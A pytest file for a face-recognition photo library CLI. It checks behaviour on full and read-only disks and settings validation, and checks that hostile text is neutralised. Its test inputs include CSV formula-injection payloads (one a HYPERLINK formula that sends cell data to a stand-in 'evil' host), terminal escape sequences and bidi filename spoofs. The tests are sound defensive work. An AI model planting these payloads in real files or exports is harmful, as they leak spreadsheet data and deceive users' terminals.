"""Failures are one line and leave every operation whole or absent (a real full disk, a real
read-only mount), settings are typed, and text crossing the boundary is neutralised: CSV
formulas, control and bidi characters, newlines in names and paths (issue 18)."""
from __future__ import annotations

import csv
import io
import json
import os
import shutil
import subprocess
import sys
import textwrap
import time
from pathlib import Path

import cv2
import numpy as np
import pytest

import facefolio

from facefolio.library import Library, LibraryError
from facefolio.library.upkeep.forget import forget_all
from facefolio.library.storage.index import FaceIndex, index_path
from facefolio.library.people.people import People

NAME_MAX = 200  # characters (facefolio.library.storage.text.NAME_MAX, said in the README)

from people_fixtures import put, state, synthetic_library

# The code under test, also for the commands run as separate processes.
DESKTOP = str(Path(facefolio.__file__).resolve().parents[1])


def unit(n: int, seed: int = 0, dim: int = 128) -> np.ndarray:
    v = np.random.default_rng(seed).standard_normal((n, dim)).astype(np.float32)
    return v / np.linalg.norm(v, axis=1, keepdims=True)


def run(*args: str) -> tuple[int, str, str]:
    proc = subprocess.run([sys.executable, "-m", "facefolio.cli", *args], capture_output=True,
                          env={**os.environ, "PYTHONPATH": DESKTOP}, timeout=300)
    return (proc.returncode, proc.stdout.decode("utf-8", "replace"),
            proc.stderr.decode("utf-8", "replace"))


def make_library(path: Path, n: int = 40) -> Path:
    with synthetic_library(path, unit(n)) as lib:
        put(lib, range(1, min(n, 10) + 1))
        if n > 10:
            put(lib, range(11, min(n, 20) + 1))
        People(lib).name(1, "Anna")  # something to undo
        lib.index()
        lib.save_indexes()
        lib.con.execute("PRAGMA wal_checkpoint(TRUNCATE)")
    return path


def mount_tmpfs(where: Path, size: str) -> None:
    where.mkdir(parents=True, exist_ok=True)
    proc = subprocess.run(["mount", "-t", "tmpfs", "-o", f"size={size},mode=0700", "tmpfs",
                           str(where)], capture_output=True, text=True)
    if proc.returncode != 0:
        pytest.skip(f"cannot mount a small tmpfs to test a real full or read-only disk "
                    f"(needs root and mount(8)): {proc.stderr.strip()}")


@pytest.fixture
def small_disk(tmp_path):
    disk = tmp_path / "disk"
    mount_tmpfs(disk, "2m")
    yield disk
    subprocess.run(["mount", "-o", "remount,rw", str(disk)], capture_output=True)
    subprocess.run(["umount", "-l", str(disk)], capture_output=True)


def fill(disk: Path, leave: int = 0) -> None:
    """Fill the disk, leaving about `leave` bytes free."""
    with open(disk / "filler", "ab") as fh:
        while True:
            free = shutil.disk_usage(disk).free - leave
            if free <= 0:
                break
            try:
                fh.write(b"\0" * min(free, 1 << 16))
                fh.flush()
            except OSError:
                break


def facts(path: Path) -> tuple:
    with Library(path) as lib:
        assert lib.integrity_ok()
        return state(lib), lib.counts()["faces"], \
            [tuple(r) for r in lib.con.execute("SELECT id, undone FROM operations")]


# -- a full disk -----------------------------------------------------------------------------
COMMANDS = [["cluster"], ["name", "2", "Bea"], ["merge", "1", "2"], ["remove-face", "3"],
            ["undo"], ["hide", "1"], ["not-same", "1", "2"], ["forget", "--yes"],
            ["delete-person", "2"], ["move", "25", "--to", "1"]]


def test_every_command_on_a_full_disk_says_so_in_one_line(small_disk, tmp_path):
    lib = make_library(small_disk / "lib")
    photos = tmp_path / "photos"
    photos.mkdir()
    cv2.imwrite(str(photos / "a.jpg"), np.full((64, 64, 3), 127, np.uint8))
    before = facts(lib)
    fill(small_disk)
    for command in COMMANDS + [["scan", str(photos)], ["rescan"]]:
        code, out, err = run("--library", str(lib), *command)
        assert code == 1, (command, out, err)
        assert "Traceback" not in err, (command, err)
        assert len(err.strip().splitlines()) == 1, (command, err)
        assert "is full" in err, (command, err)
        if command[0] not in ("scan", "rescan"):
            assert "nothing was changed" in err
        assert facts(lib) == before, command


def test_a_forget_that_cannot_compact_says_the_data_is_gone_and_finishes_later(
        tmp_path, monkeypatch):
    import sqlite3

    from facefolio.library.upkeep import forget

    lib_dir = make_library(tmp_path / "lib")

    def full(con, folder):
        raise sqlite3.OperationalError("database or disk is full")

    monkeypatch.setattr(forget, "_compact", full)
    with Library(lib_dir) as lib:
        with pytest.raises(LibraryError, match="every face, person and name was deleted"):
            forget_all(lib)
    monkeypatch.undo()
    with Library(lib_dir) as lib:  # finished here, before anything else
        assert lib.con.execute("SELECT value FROM meta WHERE key = 'forget_pending'"
                               ).fetchone()[0] == "0"
        assert lib.counts()["faces"] == 0
        assert not index_path(lib_dir, "yunet-sface").exists()


@pytest.mark.parametrize("leave", [0, 8192])
def test_an_index_save_on_a_full_disk_keeps_the_old_index(small_disk, leave):
    path = small_disk / "index-test.hnsw"
    old = FaceIndex(128)
    old.add(np.arange(1, 41), unit(40))
    assert old.save(path, 1)
    before = path.read_bytes(), path.with_suffix(".json").read_bytes()
    bigger = FaceIndex(128)
    bigger.add(np.arange(1, 3001), unit(3000, seed=2))
    fill(small_disk, leave)
    with pytest.raises(OSError):
        bigger.save(path, 2)
    assert (path.read_bytes(), path.with_suffix(".json").read_bytes()) == before
    assert [p.name for p in small_disk.iterdir() if p.name.endswith(".tmp")] == []
    assert len(FaceIndex.load(path, 128)) == 40


# -- a read-only library ----------------------------------------------------------------------
def test_a_read_only_library_is_browsed_and_searched(small_disk):
    lib = make_library(small_disk / "lib")
    proc = subprocess.run(["mount", "-o", "remount,ro", str(small_disk)], capture_output=True,
                          text=True)
    if proc.returncode != 0:
        pytest.skip(f"cannot remount the tmpfs read-only: {proc.stderr.strip()}")
    code, out, err = run("--library", str(lib), "status")
    assert code == 0 and "read-only" in out and "40 faces" in out, err
    code, out, err = run("--library", str(lib), "search", "--face", "1", "--json")
    assert code == 0 and len(json.loads(out)["results"]) == 20, err
    code, out, err = run("--library", str(lib), "export", "--json")
    assert code == 0 and len(json.loads(out)["faces"]) == 40, err
    code, out, err = run("--library", str(lib), "export", "--csv")
    assert code == 0 and len(out.splitlines()) == 41, err
    code, out, err = run("--library", str(lib), "people")
    assert code == 0 and "Anna" in out, err
    code, out, err = run("--library", str(lib), "name", "2", "Bea")
    assert code == 1 and "read-only" in err and "Traceback" not in err
    assert len(err.strip().splitlines()) == 1


# -- settings ----------------------------------------------------------------------------------
@pytest.mark.parametrize("text", ["[]", "null", '"x"', "12", "{not json"])
def test_settings_json_that_is_not_an_object_gives_defaults_and_a_warning(tmp_path, text):
    lib_dir = make_library(tmp_path / "lib", 12)
    (lib_dir / "settings.json").write_text(text)
    with Library(lib_dir) as lib:
        assert lib.settings.min_face == 20 and lib.settings.pack == "yunet-sface"
        assert any("settings.json" in p for p in lib.problems)
    code, out, err = run("--library", str(lib_dir), "status")
    assert code == 0 and "warning: settings.json" in out, err
    code, out, err = run("--library", str(lib_dir), "search", "--face", "1")
    assert code == 0, err


def test_wrong_types_and_ranges_fall_back_and_unknown_keys_are_kept(tmp_path):
    lib_dir = make_library(tmp_path / "lib", 12)
    (lib_dir / "settings.json").write_text(json.dumps({
        "min_face": "abc", "det_threshold": 5, "write_xmp": 1, "scan_workers": 100000,
        "min_cluster_faces": True, "from_a_newer_version": {"x": [1, 2]}}))
    with Library(lib_dir) as lib:
        s = lib.settings
        assert (s.min_face, s.det_threshold, s.write_xmp, s.min_cluster_faces) == \
            (20, 0.7, False, 3)
        assert s.scan_workers == len(os.sched_getaffinity(0))
        assert len(lib.problems) == 5, lib.problems
        lib.save_settings()
    saved = json.loads((lib_dir / "settings.json").read_text())
    assert saved["from_a_newer_version"] == {"x": [1, 2]}
    code, out, err = run("--library", str(lib_dir), "status", "--json")
    assert code == 0 and json.loads(out)["problems"] == []  # fixed values were saved


# -- names and paths crossing the boundary ----------------------------------------------------
EVIL_PATH = "/synthetic/a\x1b[2Jb\nc\u202egpj.exe.jpg"


@pytest.fixture
def odd_library(tmp_path) -> Path:
    lib_dir = make_library(tmp_path / "lib", 12)
    with Library(lib_dir) as lib:
        lib.con.execute("UPDATE photos SET path = ? WHERE id = 2", (EVIL_PATH,))
    return lib_dir


@pytest.mark.parametrize("name", ["=1+1", "+SUM(A1:A9)", "@cmd", "-2+3",
                                  '=HYPERLINK("http://evil/?"&A1,"x")'])
def test_csv_cells_that_would_be_formulas_are_prefixed(odd_library, name):
    code, _, err = run("--library", str(odd_library), "name", "1", "--", name)
    assert code == 0, err
    code, out, _ = run("--library", str(odd_library), "export", "--csv")
    rows = list(csv.DictReader(io.StringIO(out)))
    assert len(rows) == 12  # the newline in a path is quoted, not a new row
    named = [r for r in rows if r["person_id"] == "1"]
    assert named and all(r["person_name"] == "'" + name for r in named)
    assert any(r["photo"] == EVIL_PATH for r in rows)
    code, out, _ = run("--library", str(odd_library), "export", "--json")
    assert {f["person_name"] for f in json.loads(out)["faces"]} >= {name}  # exact in JSON


@pytest.mark.parametrize("name", ["Anna\x1b[31mRed", "\u202eannA", "Anna\nBea", "Tab\there",
                                  "x" * (NAME_MAX + 1)])
def test_typed_names_with_control_or_bidi_characters_are_refused(odd_library, name):
    code, out, err = run("--library", str(odd_library), "name", "2", name)
    assert code == 1 and "Traceback" not in err and len(err.strip().splitlines()) == 1
    with Library(odd_library) as lib:
        assert lib.person(2).name is None
    assert run("--library", str(odd_library), "name", "2", "y" * NAME_MAX)[0] == 0


def test_terminal_output_escapes_names_and_paths_one_result_per_line(odd_library):
    with Library(odd_library) as lib:  # as an old library or another tool might hold them
        lib.con.execute("UPDATE people SET name = 'Ev\x1b]0;pwned\x07il\u202e' WHERE id = 1")
    for command in (["search", "--face", "5", "--top", "11"], ["people"], ["status"],
                    ["unknown"]):
        code, out, err = run("--library", str(odd_library), *command)
        assert code == 0, err
        assert "\x1b" not in out and "\u202e" not in out and "\x07" not in out, command
    code, out, _ = run("--library", str(odd_library), "search", "--face", "5", "--top", "11")
    assert len(out.splitlines()) == 11
    assert "\\x1b[2Jb\\x0ac\\u202egpj.exe.jpg" in out
    code, out, _ = run("--library", str(odd_library), "search", "--face", "5", "--top", "11",
                       "--json")
    assert EVIL_PATH in {r["photo"] for r in json.loads(out)["results"]}
    assert "--json" in run("search", "--help")[1]


def test_names_read_from_sidecars_are_cleaned_and_cut(tmp_path):
    from facefolio.library.interop.xmp import Region, regions_from_xmp, write_regions
    from facefolio.library.interop.xmp_library import import_library_xmp

    huge = "A" * (50 << 20)
    found = regions_from_xmp({
        "Xmp.mwg-rs.Regions/mwg-rs:RegionList[1]/mwg-rs:Name": "Eve\x1b[31m\u202eil",
        "Xmp.mwg-rs.Regions/mwg-rs:RegionList[1]/mwg-rs:Area/stArea:x": "0.5",
        "Xmp.mwg-rs.Regions/mwg-rs:RegionList[1]/mwg-rs:Area/stArea:y": "0.5",
        "Xmp.mwg-rs.Regions/mwg-rs:RegionList[1]/mwg-rs:Area/stArea:w": "0.5",
        "Xmp.mwg-rs.Regions/mwg-rs:RegionList[1]/mwg-rs:Area/stArea:h": "0.5",
        "Xmp.mwg-rs.Regions/mwg-rs:RegionList[2]/mwg-rs:Name": huge,
        "Xmp.mwg-rs.Regions/mwg-rs:RegionList[2]/mwg-rs:Area/stArea:x": "0.5",
        "Xmp.mwg-rs.Regions/mwg-rs:RegionList[2]/mwg-rs:Area/stArea:y": "0.5",
        "Xmp.mwg-rs.Regions/mwg-rs:RegionList[2]/mwg-rs:Area/stArea:w": "0.5",
        "Xmp.mwg-rs.Regions/mwg-rs:RegionList[2]/mwg-rs:Area/stArea:h": "0.5"}, 200, 200)
    assert found[0].name == "Eve il" and len(found[1].name) == NAME_MAX

    # And through a real sidecar into the library, then out through CSV.
    lib_dir = make_library(tmp_path / "lib", 4)
    photo = tmp_path / "photos" / "p.jpg"
    photo.parent.mkdir()
    cv2.imwrite(str(photo), np.full((200, 200, 3), 127, np.uint8))
    evil = '=HYPERLINK("http://evil/?"&A1,"x")\u202e'
    write_regions(photo, [Region(evil, (0, 0, 100, 100))], 200, 200)
    with Library(lib_dir) as lib:
        lib.con.execute("UPDATE photos SET path = ?, width = 200, height = 200 WHERE id = 4",
                        (str(photo),))
        lib.con.execute("UPDATE faces SET person_id = NULL WHERE id = 4")
        named, errors = import_library_xmp(lib)
        assert (named, errors) == (1, [])
        assert lib.face(4).person_name == evil[:-1]
    code, out, _ = run("--library", str(lib_dir), "export", "--csv")
    row = [r for r in csv.DictReader(io.StringIO(out)) if r["face_id"] == "4"][0]
    assert row["person_name"] == "'" + evil[:-1]


# -- xmp --embed ------------------------------------------------------------------------------
def photos_library(tmp_path: Path, n: int) -> tuple[Path, list[Path]]:
    lib_dir = make_library(tmp_path / "lib", n)
    folder = tmp_path / "photos"
    folder.mkdir()
    paths = []
    with Library(lib_dir) as lib:
        for i in range(1, n + 1):
            path = folder / f"img{i}.jpg"
            cv2.imwrite(str(path), np.full((200, 200, 3), 100 + i, np.uint8))
            lib.con.execute("UPDATE photos SET path = ?, width = 200, height = 200 "
                            "WHERE id = ?", (str(path), i))
            paths.append(path)
    return lib_dir, paths


def test_embed_killed_mid_write_leaves_no_hidden_copy_after_the_next_run(tmp_path):
    lib_dir, paths = photos_library(tmp_path, 2)
    old_leftover = paths[0].parent / f".{paths[0].name}.mfp_0dop.tmp"  # an older run's name
    old_leftover.write_bytes(paths[0].read_bytes())
    os.utime(old_leftover, (time.time() - 3600, time.time() - 3600))
    script = textwrap.dedent(f"""
        import os
        from facefolio.library import Library
        from facefolio.library.storage import privacy
        from facefolio.library.interop.xmp_library import export_library_xmp
        real = os.replace
        def killed(src, dst):
            if str(dst).endswith(".jpg"):
                os._exit(9)
            real(src, dst)
        privacy.os.replace = killed
        with Library({str(lib_dir)!r}) as lib:
            export_library_xmp(lib, embed=True)
    """)
    proc = subprocess.run([sys.executable, "-c", script], capture_output=True, timeout=120,
                          env={**os.environ, "PYTHONPATH": DESKTOP})
    assert proc.returncode == 9, proc.stderr
    left = list(paths[0].parent.glob(".*.tmp"))  # the older leftover went, the kill left one
    assert len(left) == 1 and left[0] != old_leftover
    code, out, err = run("--library", str(lib_dir), "xmp", "write", "--embed")
    assert code == 0, err
    assert list(paths[0].parent.glob(".*.tmp")) == []


def test_embed_counts_sidecars_and_photos_apart(tmp_path):
    lib_dir, paths = photos_library(tmp_path, 3)
    os.link(paths[2], tmp_path / "hard-link.jpg")  # a photo with another hard link: refused
    code, out, err = run("--library", str(lib_dir), "xmp", "write", "--embed")
    assert code == 0, err
    assert "wrote face names to 3 sidecars and into 2 photos, 1 failed" in out
    assert all(Path(f"{p}.xmp").exists() for p in paths)
